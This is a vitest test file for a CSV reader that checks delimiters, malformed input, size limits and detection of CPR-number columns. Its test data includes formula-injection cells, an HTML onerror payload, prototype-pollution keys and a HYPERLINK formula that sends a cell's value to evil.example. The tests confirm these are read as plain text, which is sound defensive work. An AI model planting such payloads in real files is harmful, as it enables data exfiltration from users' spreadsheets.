import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findCprColumns } from '../../src/intake/cpr-column.ts';
import { readCsv, type CsvTable, type ReadCsv } from '../../src/intake/read-csv.ts';
import { csvCases, read } from './hostile/csv.ts';

const names = ['sagsbehandler', 'borger', 'tro', 'skift', 'job'];
const twoRows = [
  { line: 2, cells: ['Ærø', 'B-1', '1,3', '0', 'nej'] },
  { line: 3, cells: ['Øster Å', 'B-2', '2,5', '1', 'ja'] },
];

function table(result: ReadCsv): CsvTable {
  if (result.kind !== 'table') throw new Error(`refused: ${JSON.stringify(result.refusal)}`);
  return result;
}
const cells = (result: ReadCsv): (readonly string[])[] => table(result).rows.map((row) => row.cells);

describe('a file from a spreadsheet', () => {
  it.each([
    [csvCases.bom, ';'],
    [csvCases.danishExcel, ';'],
    [csvCases.unicodeText, '\t'],
    [csvCases.tab, '\t'],
    [csvCases.oldMac, ';'],
    [csvCases.ctrlZ, ';'],
  ] as const)('$id: is read', (file, delimiter) => {
    expect(read(file)).toEqual({ kind: 'table', header: names, rows: twoRows, delimiter, blankRows: 0, problems: [] });
  });

  it('C-006: keeps € and the long dash', () => expect(cells(read(csvCases.euro))).toEqual([['A – B', 'B-1', '1,3', '0', '1.250 €']]));

  it('C-007: is read with commas', () => {
    expect(table(read(csvCases.comma))).toMatchObject({
      delimiter: ',',
      header: names,
      rows: [{ cells: ['A', 'B-1', '1.3', '0', 'nej'] }],
    });
  });

  it('C-009: is one column where nothing stands between cells, and asks', () => {
    expect(table(read(csvCases.oneColumn))).toMatchObject({ delimiter: null, header: ['tro'], problems: [{ kind: 'oneColumn' }] });
    expect(cells(read(csvCases.oneColumn))).toEqual([['1,3'], ['2,5']]);
  });

  it('C-012: asks about bars, and reads them once somebody has named them', () => {
    expect(table(read(csvCases.bar)).problems).toEqual([{ kind: 'oneColumn' }]);
    expect(readCsv(csvCases.bar.text, '|')).toMatchObject({ header: names, rows: twoRows, delimiter: '|', problems: [] });
  });

  it('C-017: is refused where a quote is never closed, with the row in which it begins', () => {
    expect(read(csvCases.openQuote)).toEqual({ kind: 'refused', refusal: { kind: 'unclosedQuote', line: 2, column: 5 } });
  });

  it('C-019: leaves out a row with other cells than the header, and names it', () => {
    const { rows, problems } = table(read(csvCases.tooMany));
    expect(rows).toEqual([{ line: 3, cells: ['A', 'B-2', '2,5', '1', 'ja'] }]);
    expect(problems).toEqual([{ kind: 'cellCount', line: 2, found: 6, expected: 5 }]);
  });

  it('C-021: counts blank rows, which keep their numbers', () => {
    const { rows, blankRows, problems } = table(read(csvCases.blank));
    expect(rows.map(({ line }) => line)).toEqual([3, 6]);
    expect(blankRows).toBe(4);
    expect(problems).toEqual([]);
  });

  it('C-022: is refused where there is a header alone, or nothing', () => {
    expect(read(csvCases.headerOnly)).toEqual({ kind: 'refused', refusal: { kind: 'noRows' } });
    expect(readCsv('\n;;\n')).toEqual({ kind: 'refused', refusal: { kind: 'empty' } });
    expect(readCsv('')).toEqual({ kind: 'refused', refusal: { kind: 'empty' } });
  });

  it('C-024: says that a first row with numbers is hardly a header', () => {
    expect(table(read(csvCases.noHeader)).problems).toEqual([
      { kind: 'headerLooksLikeData', column: 3 },
      { kind: 'headerLooksLikeData', column: 4 },
    ]);
  });

  it.each([
    [csvCases.total, 3],
    [csvCases.sameId, 2],
  ] as const)('$id: keeps every row, since what they mean is for the import to tell', (file, rows) => {
    expect(table(read(file)).rows).toHaveLength(rows);
  });

  it('C-027: tells which columns have the same header, and renames none', () => {
    expect(table(read(csvCases.twice))).toMatchObject({
      header: ['borger', 'tro', 'tro'],
      problems: [{ kind: 'duplicateHeader', columns: [2, 3] }],
    });
    expect(table(readCsv('Tro; tro\u200b;\n1;2;3\n')).problems).toEqual([
      { kind: 'duplicateHeader', columns: [1, 2] },
      { kind: 'emptyHeader', column: 3 },
    ]);
  });

  it('C-029: names of built-in fields are only text', () => {
    const { header, rows } = table(read(csvCases.builtIn));
    expect([header, rows[0]?.cells]).toEqual([
      ['borger', '__proto__', 'constructor', 'toString'],
      ['B-1', 'a', 'b', 'c'],
    ]);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it.each([
    [csvCases.cpr, 'sure'],
    [csvCases.nineDigits, 'nineDigits'],
    [csvCases.power, 'power'],
  ] as const)('$id: has a column that must not be kept', (file, reason) => {
    expect(findCprColumns(cells(read(file)))).toMatchObject([{ column: 1, reason }]);
  });

  it.each([
    [
      csvCases.formulas,
      [
        ['=1+1', '+4520304050'],
        ['@B-3', '\t=1+1'],
      ],
    ],
    [csvCases.link, [['B-1', '=HYPERLINK("https://evil.example/?x="&A1;"klik")']]],
    [csvCases.html, [['<img src=x onerror=1>', '1']]],
  ] as const)('$id: is read as the text it is', (file, expected) => expect(cells(read(file))).toEqual(expected));

  it('takes the line that names the delimiter off, and counts rows as Excel does', () => {
    expect(table(readCsv('sep=,\r\na,b;c\r\n1,2\r\n'))).toMatchObject({
      delimiter: ',',
      header: ['a', 'b;c'],
      rows: [{ line: 2, cells: ['1', '2'] }],
    });
  });

  it('reads mixed ends of lines, and counts a cell with several lines as one row', () => {
    expect(table(readCsv('a;b\r\n"1\r\nx";2\n3;4\r5;6')).rows).toEqual([
      { line: 2, cells: ['1\nx', '2'] },
      { line: 3, cells: ['3', '4'] },
      { line: 4, cells: ['5', '6'] },
    ]);
  });

  it('says where another delimiter would do as well', () => {
    expect(table(readCsv('a;b,c\n1;2,3\n')).problems).toEqual([{ kind: 'delimiterUnsure', delimiter: ';' }]);
  });
});

describe('a file that is too large', () => {
  const row = 'A;B;1,3\r\n';
  it('is read up to 50,000 rows and refused from the next', () => {
    expect(table(readCsv(`a;b;c\r\n${row.repeat(50_000)}`)).rows).toHaveLength(50_000);
    expect(readCsv(`a;b;c\r\n${row.repeat(50_001)}`)).toEqual({ kind: 'refused', refusal: { kind: 'tooManyRows', limit: 50_000 } });
  });

  it.each([
    ['L-006', 'one very long line', `a;b;c ${'a'.repeat(10_000_000)}`, 'cellTooLong'],
    ['L-007', 'quotes without end', `"${'a""'.repeat(3_000_000)}`, 'unclosedQuote'],
    ['L-007', 'more than 10 MB', `"${'a""'.repeat(5_000_000)}`, 'tooLarge'],
    ['L-007', 'ten million columns', ';'.repeat(10_000_000), 'tooManyColumns'],
    ['L-007', 'ten million rows', '\n'.repeat(10_000_000), 'tooManyRows'],
  ])('%s: %s is refused', (_id, _what, text, kind) => expect(readCsv(text)).toMatchObject({ kind: 'refused', refusal: { kind } }));
});

describe('whatever the text', () => {
  it('every row has as many cells as the header, in the order of the file, and the answer is the same twice', () => {
    const anyCsv = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', '1', '"', ';', ',', '\t', '\n', '\r', ' ', 'sep='), maxLength: 30 }),
      fc.string({ unit: 'binary' }),
    );
    fc.assert(
      fc.property(anyCsv, (text) => {
        const result = readCsv(text);
        expect(readCsv(text)).toEqual(result);
        if (result.kind !== 'table') return;
        expect(result.rows.every((row) => row.cells.length === result.header.length)).toBe(true);
        const lines = result.rows.map(({ line }) => line);
        expect(lines).toEqual([...new Set(lines)].sort((one, other) => one - other));
      }),
      { numRuns: 2000 },
    );
  });
});
